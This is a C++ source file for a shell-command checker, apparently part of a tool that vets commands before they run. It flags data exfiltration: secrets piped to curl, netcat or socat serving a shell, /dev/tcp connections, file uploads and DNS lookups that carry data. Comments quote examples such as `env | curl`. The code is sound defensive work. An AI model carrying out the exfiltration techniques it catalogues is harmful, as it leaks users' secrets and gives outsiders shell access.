// Against sending what is on this machine to another one.
#include <algorithm>
#include <array>

#include "decide/arguments.h"
#include "decide/check.h"
#include "decide/names.h"
#include "decide/network.h"

namespace husk::decide {
namespace {

using parse::Command;
using parse::Piece;
using parse::Redirect;
using parse::Word;

constexpr double likely = 0.7;

// One of the commands in front of it in a pipeline satisfies the question.
template <class Question>
bool comes_from(const Scene& scene, Question question) {
    return std::ranges::any_of(scene.survey.feeding(scene.index),
                               [&](const Command* command) { return question(*command); });
}

// The same for the commands whose output stands in one of its words.
template <class Question>
bool comes_from_words(const Scene& scene, Question question) {
    return std::ranges::any_of(scene.command.words, [&](const Word& word) {
        return std::ranges::any_of(word.pieces, [&](const Piece& piece) {
            return std::ranges::any_of(scene.survey.inside(scene.index, piece),
                                       [&](const Command* inner) { return question(*inner); });
        });
    });
}

bool reads_content(const Command& command) {
    return is_one_of(command.program(), "cat base64 xxd od tar gzip head tail env printenv");
}

std::optional<Sending> sending_elsewhere(const Scene& scene) {
    auto sending = sending_of(scene.command);
    if (sending && sending->to_this_machine) sending.reset();
    return sending;
}

std::optional<std::string> secret(const Scene& scene) {
    const auto sending = sending_elsewhere(scene);
    if (!sending) return std::nullopt;
    const auto is_source = [&](const Command& command) {
        return gives_secrets(command, scene.context);
    };
    const bool sends_one =
        std::ranges::any_of(sending->files,
                            [&](const Word& file) { return is_secret(file, scene.context); }) ||
        comes_from_words(scene, is_source) ||
        // Even to a program that seems not to read its standard input: `env | curl` is no accident.
        (comes_from(scene, is_source) && (sending->standard_input || downloads(scene.command)));
    return sends_one ? std::optional(scene.command.text) : std::nullopt;
}

std::optional<std::string> upload(const Scene& scene) {
    const auto sending = sending_elsewhere(scene);
    if (!sending) return std::nullopt;
    if (!sending->files.empty()) return sending->files.front().shown();
    const bool from_words = comes_from_words(scene, reads_content);
    const bool piped = sending->standard_input && comes_from(scene, gives_local_data);
    return from_words || piped ? std::optional(scene.command.text) : std::nullopt;
}

std::optional<std::string> file_transfer(const Scene& scene) {
    if (!is_one_of(scene.command.program(), "ftp lftp sftp tftp ncftpput")) return std::nullopt;
    const auto words = arguments_of(scene.command);
    // sftp host:file fetches it.
    const bool fetches =
        std::ranges::any_of(words, [](const Word& word) { return word.shown().contains(':'); });
    return words.empty() || fetches ? std::nullopt : std::optional(scene.command.text);
}

std::optional<std::string> shell_for_others(const Scene& scene) {
    const std::string program = scene.command.program();
    if (is_one_of(program, "nc ncat netcat")) {
        static constexpr std::array<std::string_view, 2> names = {"exec", "sh-exec"};
        const Arguments arguments =
            read_arguments(arguments_of(scene.command), {"ceIiMmOPpqsTVWwXx", names});
        const bool serves = arguments.has("e") || arguments.has("c") || arguments.has("exec") ||
                            arguments.has("sh-exec");
        if (serves) return scene.command.text;
    }
    if (program == "socat") {
        for (const Word& word : arguments_of(scene.command)) {
            const std::string text = word.known_start();
            if (text.starts_with("EXEC:") || text.starts_with("SYSTEM:")) return scene.command.text;
        }
    }
    return std::nullopt;
}

std::optional<std::string> bare_connection(const Scene& scene) {
    for (const Redirect& redirect : scene.command.redirects) {
        const std::string path = redirect.target.shown();
        for (const std::string_view device : {"/dev/tcp/", "/dev/udp/"}) {
            if (path.starts_with(device) &&
                !is_this_machine(std::string_view(path).substr(device.size())))
                return path;
        }
    }
    return std::nullopt;
}

// dig "$(base64 < file).example.net": names that carry data.
std::optional<std::string> name_lookup(const Scene& scene) {
    if (!is_one_of(scene.command.program(), "dig nslookup host drill ping")) return std::nullopt;
    return comes_from_words(scene, reads_content) ? std::optional(scene.command.text)
                                                  : std::nullopt;
}

constexpr Check exfiltration(std::string_view id, Decision decision, std::string_view reason,
                             std::string_view instead,
                             std::optional<std::string> (*evidence)(const Scene&)) {
    return {.id = id,
            .decision = decision,
            .severity = Severity::High,
            .confidence = likely,
            .reason = reason,
            .instead = instead,
            .evidence = evidence};
}

constexpr std::array checks = {
    exfiltration("exfiltration/secret", Decision::Deny,
                 "This sends passwords, keys or the environment to another machine ({}).",
                 "Leave secrets where they are; ask the user to enter them where they are needed.",
                 secret),
    exfiltration("exfiltration/shell", Decision::Deny,
                 "This lets another machine run commands here ({}).", "", shell_for_others),
    exfiltration("exfiltration/bare-connection", Decision::Deny,
                 "This connects the shell itself to another machine ({}).",
                 "Use curl for what it should fetch.", bare_connection),
    exfiltration("exfiltration/upload", Decision::Ask,
                 "This sends local files to another machine ({}).", "", upload),
    exfiltration("exfiltration/file-transfer", Decision::Ask,
                 "This can send local files to another machine ({}).", "", file_transfer),
    exfiltration("exfiltration/name-lookup", Decision::Deny,
                 "The name that is looked up carries local data to another machine ({}).", "",
                 name_lookup),
};

}  // namespace

constinit const Pack exfiltration_pack = {
    .name = "exfiltration",
    .about = "sending what is on this machine to another one",
    .on_by_default = false,
    .checks = checks,
};

}  // namespace husk::decide
